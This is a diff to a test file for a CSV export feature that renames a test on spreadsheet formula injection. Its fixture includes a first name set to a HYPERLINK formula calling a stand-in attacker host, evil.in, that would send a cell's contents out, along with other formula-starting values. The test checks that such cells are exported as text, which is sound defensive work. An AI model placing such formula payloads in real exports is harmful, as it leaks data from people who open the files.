@@ -98,7 +98,9 @@ test('quotes, commas and line breaks stay inside their cell [S106]', async ({ ac
   expect(body).toBe('\uFEFFFirst Name,Notes\r\n"A ""B"", C","one\ntwo\rthree"\r\n')
 })
 
-test('what a spreadsheet would run as a formula is text [S106]', async ({ academy }) => {
+test('a cell that a spreadsheet would run as a formula is written as text [S106]', async ({
+  academy,
+}) => {
   const { profile } = await academy.aStudent({ first_name: '=HYPERLINK("http://evil.in"&A1)' })
   const { call } = await academy.signInAdmin()
   const body = { student_id: profile.student_id, last_name: '@SUM(1)', notes: '-2+3\n=1' }
